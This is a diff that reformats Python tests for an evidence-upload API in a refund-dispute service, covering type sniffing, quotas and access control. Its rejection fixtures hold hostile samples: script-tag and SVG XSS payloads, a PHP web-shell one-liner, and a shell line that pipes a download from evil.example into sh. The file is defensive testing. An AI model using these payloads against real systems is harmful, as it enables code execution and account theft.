@@ -1,5 +1,6 @@
 """Evidence uploads over HTTP: type by content only, 20 MiB while streaming, decompression
 bombs, quota, and downloads only for the case's people, as attachments that are never sniffed."""
+
 import hashlib
 import io
 import zipfile
@@ -46,8 +47,9 @@ def test_every_allowed_type_is_accepted_by_content_and_served_back_unaltered(api
     assert body["source"] == "buyer" and body["category"] == "problem"
     assert set(body) >= {"id", "category", "source", "filename", "content_type", "size", "sha256", "uploaded_at"}
 
-    got = api.client.get(f"/api/v1/refunds/{case['id']}/evidence/{body['id']}/file",
-                         headers={"Authorization": f"Bearer {buyer.token}"})
+    got = api.client.get(
+        f"/api/v1/refunds/{case['id']}/evidence/{body['id']}/file", headers={"Authorization": f"Bearer {buyer.token}"}
+    )
     assert got.status_code == 200
     assert b"".join(got.streaming_content) == data  # the original bytes, never altered
     assert got["Content-Type"].startswith(expected_type)
@@ -72,16 +74,22 @@ def _matroska() -> bytes:
 
 
 REJECTED = {
-    "html_named_png": (b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
-                       "photo.png", "unsupported_type"),
+    "html_named_png": (
+        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
+        "photo.png",
+        "unsupported_type",
+    ),
     "html_with_leading_space": (b"\n   <html><script>alert(1)</script></html>", "x.png", "unsupported_type"),
-    "svg_named_png": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "chart.png",
-                      "unsupported_type"),
-    "xml_svg": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"></svg>', "a.png",
-                "unsupported_type"),
+    "svg_named_png": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "chart.png", "unsupported_type"),
+    "xml_svg": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"></svg>', "a.png", "unsupported_type"),
     "elf_named_png": (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56 + b"\x90" * 200, "shot.png", "unsupported_type"),
-    "windows_exe_named_jpg": (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
-                              + b"This program cannot be run in DOS mode.", "shot.jpg", "unsupported_type"),
+    "windows_exe_named_jpg": (
+        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
+        + b"\x00" * 48
+        + b"This program cannot be run in DOS mode.",
+        "shot.jpg",
+        "unsupported_type",
+    ),
     "shell_script_named_png": (b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "shot.png", "unsupported_type"),
     "php_named_txt": (b"<?php system($_GET['c']); ?>", "log.txt", "unsupported_type"),
     "zip_named_png": (_zip_bytes(), "shot.png", "unsupported_type"),
@@ -92,7 +100,10 @@ REJECTED = {
     "gif_then_zip_polyglot": (gif_bytes() + _zip_bytes(), "a.gif", "polyglot"),
     "gif_then_bytes_after_trailer": (gif_bytes() + b"alert(1);", "a.gif", "polyglot"),
     "jpeg_with_script_in_comment": (
-        encode(pattern_image(), "JPEG", comment=b"<script>alert(1)</script>"), "a.jpg", "active_content"),
+        encode(pattern_image(), "JPEG", comment=b"<script>alert(1)</script>"),
+        "a.jpg",
+        "active_content",
+    ),
     "pdf_with_javascript": (pdf_bytes(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "a.pdf", "active_content"),
     "pdf_with_embedded_file": (pdf_bytes(b"<< /Type /EmbeddedFile /Length 0 >>"), "a.pdf", "active_content"),
     "heic_is_not_mp4": (_ftyp(b"heic"), "a.mp4", "unsupported_type"),
@@ -151,8 +162,12 @@ def test_upload_quota_per_case_is_50_files(buyer, merchant, case, upload):
         assert res.status_code == 201, (i, res.data)
     res = upload(case["id"], buyer, b"one too many\n", name="x.txt")
     assert res.status_code == 409
-    assert res.data["error"] == {"type": "conflict", "code": "evidence_quota_exceeded",
-                                 "message": res.data["error"]["message"], "param": None}
+    assert res.data["error"] == {
+        "type": "conflict",
+        "code": "evidence_quota_exceeded",
+        "message": res.data["error"]["message"],
+        "param": None,
+    }
 
 
 def test_files_are_stored_under_generated_names_through_the_storage_api(buyer, case, upload, media_root):
@@ -164,15 +179,22 @@ def test_files_are_stored_under_generated_names_through_the_storage_api(buyer, c
     assert (media_root / item.file.name).is_file()
 
 
-def test_evidence_is_served_only_to_the_parties_arbitrators_and_admins(api, make_user, buyer, merchant, case,
-                                                                       upload, make_listing):
+def test_evidence_is_served_only_to_the_parties_arbitrators_and_admins(
+    api, make_user, buyer, merchant, case, upload, make_listing
+):
     res = upload(case["id"], buyer, "截图说明\n".encode(), name="note.png")  # text that claims to be a PNG
     assert res.status_code == 201 and res.data["content_type"] == "text/plain"
     url = f"/api/v1/refunds/{case['id']}/evidence/{res.data['id']}/file"
     other_merchant = make_user("merchant")
     api.post("/shops", {"name": "别家店", "description": "x"}, token=other_merchant.token)
-    for user, status in [(buyer, 200), (merchant, 200), (make_user("arbitrator"), 200), (make_user("admin"), 200),
-                         (make_user("buyer"), 404), (other_merchant, 404)]:
+    for user, status in [
+        (buyer, 200),
+        (merchant, 200),
+        (make_user("arbitrator"), 200),
+        (make_user("admin"), 200),
+        (make_user("buyer"), 404),
+        (other_merchant, 404),
+    ]:
         got = api.client.get(url, headers={"Authorization": f"Bearer {user.token}"})
         assert got.status_code == status, (user.role, got.status_code)
         if status == 200:
